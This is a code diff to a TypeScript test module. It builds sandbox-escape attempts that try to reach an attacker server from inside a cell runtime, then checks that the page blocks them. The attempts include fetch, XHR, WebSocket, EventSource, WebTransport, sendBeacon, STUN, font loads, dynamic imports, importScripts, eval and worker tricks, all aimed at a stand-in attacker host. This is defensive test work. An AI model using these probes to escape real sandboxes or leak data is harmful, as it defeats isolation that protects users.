@@ -8,8 +8,11 @@ export interface Attack {
   readonly says: RegExp;
 }
 
-/** The attacker's host; its server counts what arrives. */
-export const attacker = "attacker.test";
+/** The attacker's server, which counts what arrives: any name below `host` leads to it. */
+export interface Attacker {
+  readonly host: string;
+  readonly port: number;
+}
 
 const prelude = `
 const reached = (what: unknown): void => print("REACHED " + String(what));
@@ -25,7 +28,7 @@ const attempt = async (name: string, reach: () => unknown): Promise<void> => {
 const scope = globalThis as any;
 `;
 
-/** A program of attempts, each a name and an expression; `port` is that of the attacker's server. */
+/** A program of attempts, each a name and an expression; `at` is the attacker's server. */
 const attempts = (name: string, tries: Readonly<Record<string, string>>): Attack => ({
   name,
   text: `${prelude}\n${Object.entries(tries)
@@ -37,10 +40,10 @@ const attempts = (name: string, tries: Readonly<Record<string, string>>): Attack
 /** A program that goes on to its end, or fails, with what the page says of it. */
 const program = (name: string, text: string, says: RegExp): Attack => ({ name, text: `${prelude}\n${text}`, says });
 
-const url = (port: number, path: string): string => `http://${path}.${attacker}:${port}/${path}`;
+const url = ({ host, port }: Attacker, path: string): string => `http://${path}.${host}:${port}/${path}`;
 
 /** What must not be reached: storage, network, other pages and workers, and code made from text. */
-const reaching = (port: number): readonly Attack[] => [
+const reaching = (at: Attacker): readonly Attack[] => [
   attempts("IndexedDB", {
     open: 'scope.indexedDB.open("glovebox")',
     databases: "scope.indexedDB.databases()",
@@ -71,34 +74,34 @@ const reaching = (port: number): readonly Attack[] => [
     location: "scope.location.href",
   }),
   attempts("fetch and XMLHttpRequest", {
-    fetch: `scope.fetch(${JSON.stringify(url(port, "fetch"))}, { mode: "no-cors" })`,
+    fetch: `scope.fetch(${JSON.stringify(url(at, "fetch"))}, { mode: "no-cors" })`,
     own: 'scope.fetch("./index.html")',
-    request: `new scope.Request(${JSON.stringify(url(port, "request"))})`,
-    xhr: `(() => { const x = new scope.XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(port, "xhr"))}, false); x.send(); return 1; })()`,
+    request: `new scope.Request(${JSON.stringify(url(at, "request"))})`,
+    xhr: `(() => { const x = new scope.XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(at, "xhr"))}, false); x.send(); return 1; })()`,
   }),
   attempts("WebSocket, EventSource and WebTransport", {
-    socket: `new scope.WebSocket("ws://socket.${attacker}:${port}/")`,
-    events: `new scope.EventSource(${JSON.stringify(url(port, "events"))})`,
-    transport: `new scope.WebTransport("https://transport.${attacker}:${port}/")`,
-    stream: `new scope.WebSocketStream("ws://stream.${attacker}:${port}/")`,
+    socket: `new scope.WebSocket("ws://socket.${at.host}:${at.port}/")`,
+    events: `new scope.EventSource(${JSON.stringify(url(at, "events"))})`,
+    transport: `new scope.WebTransport("https://transport.${at.host}:${at.port}/")`,
+    stream: `new scope.WebSocketStream("ws://stream.${at.host}:${at.port}/")`,
   }),
   attempts("beacons and reports", {
-    beacon: `scope.navigator.sendBeacon(${JSON.stringify(url(port, "beacon"))}, "x")`,
+    beacon: `scope.navigator.sendBeacon(${JSON.stringify(url(at, "beacon"))}, "x")`,
     report: 'scope.reportError(new Error("x"))',
-    rtc: `new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:rtc.${attacker}:${port}" }] })`,
+    rtc: `new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:rtc.${at.host}:${at.port}" }] })`,
     image: `scope.createImageBitmap(new scope.Blob(["x"]))`,
-    font: `new scope.FontFace("x", "url(${url(port, "font")})").load()`,
+    font: `new scope.FontFace("x", "url(${url(at, "font")})").load()`,
   }),
   program(
     "import of an address",
-    `await import(${JSON.stringify(url(port, "import"))});`,
+    `await import(${JSON.stringify(url(at, "import"))});`,
     /cells cannot import anything/,
   ),
   program("import of data", 'await import("data:text/javascript,export default 1");', /cells cannot import anything/),
-  program("import declarations", `import x from ${JSON.stringify(url(port, "import"))};`, /cells cannot import/),
+  program("import declarations", `import x from ${JSON.stringify(url(at, "import"))};`, /cells cannot import/),
   program("import.meta", "print(import.meta.url);", /cells cannot import/),
   attempts("importScripts", {
-    address: `scope.importScripts(${JSON.stringify(url(port, "scripts"))}) ?? 1`,
+    address: `scope.importScripts(${JSON.stringify(url(at, "scripts"))}) ?? 1`,
     data: 'scope.importScripts("data:text/javascript,1") ?? 1',
     own: 'scope.importScripts("./serviceWorker.js") ?? 1',
   }),
@@ -317,8 +320,8 @@ for (let i = 0; i < 5000; i++) void c.simulate(1).catch(() => {});`,
   ),
 ];
 
-/** All programs, with the port of the attacker's server. */
-export const attacks = (port: number): readonly Attack[] => [...reaching(port), ...imitating, ...overloading];
+/** All programs, against the attacker's server. */
+export const attacks = (at: Attacker): readonly Attack[] => [...reaching(at), ...imitating, ...overloading];
 
 /** A program that asks to decrypt bytes of its own making, for which it has to wait until the reader allows encrypted runs. */
 export const oracle = program(
@@ -349,24 +352,24 @@ export const greedy = program(
  * Plain JavaScript with nothing hidden, as if a program had found a way around the transform and the hidden names: put before the runtime.
  * What it gets is told by prints, which the page takes for the program's.
  */
-export const nothingHidden = (port: number): string => `
+export const nothingHidden = (at: Attacker): string => `
 (() => {
   const post = postMessage.bind(globalThis);
   const later = setTimeout.bind(globalThis);
   // Only what a cell prints is shown: it is told while the cell waits.
   const say = (what) => later(() => post({ type: "print", text: what }), 1500);
   const tries = {
-    fetch: () => fetch(${JSON.stringify(url(port, "raw-fetch"))}, { mode: "no-cors" }),
+    fetch: () => fetch(${JSON.stringify(url(at, "raw-fetch"))}, { mode: "no-cors" }),
     own: () => fetch(SITE + "raw-own", { mode: "no-cors" }),
-    socket: () => new Promise((ok, no) => { const s = new WebSocket("ws://raw-socket.${attacker}:${port}/"); s.onopen = ok; s.onerror = no; }),
-    events: () => new Promise((ok, no) => { const s = new EventSource(${JSON.stringify(url(port, "raw-events"))}); s.onopen = ok; s.onerror = no; }),
-    transport: () => new WebTransport("https://raw-transport.${attacker}:${port}/").ready,
-    xhr: () => { const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(port, "raw-xhr"))}, false); x.send(); },
-    import: () => import(${JSON.stringify(url(port, "raw-import"))}),
+    socket: () => new Promise((ok, no) => { const s = new WebSocket("ws://raw-socket.${at.host}:${at.port}/"); s.onopen = ok; s.onerror = no; }),
+    events: () => new Promise((ok, no) => { const s = new EventSource(${JSON.stringify(url(at, "raw-events"))}); s.onopen = ok; s.onerror = no; }),
+    transport: () => new WebTransport("https://raw-transport.${at.host}:${at.port}/").ready,
+    xhr: () => { const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(at, "raw-xhr"))}, false); x.send(); },
+    import: () => import(${JSON.stringify(url(at, "raw-import"))}),
     importOwn: () => import(SITE + "raw-import-own"),
     importData: () => import("data:text/javascript,export default 1"),
     importBlob: () => import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
-    scripts: () => importScripts(${JSON.stringify(url(port, "raw-scripts"))}),
+    scripts: () => importScripts(${JSON.stringify(url(at, "raw-scripts"))}),
     scriptsOwn: () => importScripts(SITE + "raw-scripts-own"),
     scriptsData: () => importScripts("data:text/javascript,1"),
     eval: () => (0, eval)("1"),
@@ -378,9 +381,9 @@ export const nothingHidden = (port: number): string => `
     wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
     blobWorker: () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = no; }),
     ownWorker: () => new Promise((ok, no) => { const w = new Worker(SITE + "raw-worker"); w.onmessage = ok; w.onerror = no; }),
-    font: () => new FontFace("x", "url(${url(port, "raw-font")})").load(),
+    font: () => new FontFace("x", "url(${url(at, "raw-font")})").load(),
     nested: () => new Promise((ok, no) => {
-      const inner = "fetch('${url(port, "raw-nested")}', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
+      const inner = "fetch('${url(at, "raw-nested")}', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
       const w = new Worker("data:text/javascript," + encodeURIComponent(inner));
       w.onmessage = ({ data }) => data === 1 ? ok(1) : no(0);
       w.onerror = no;
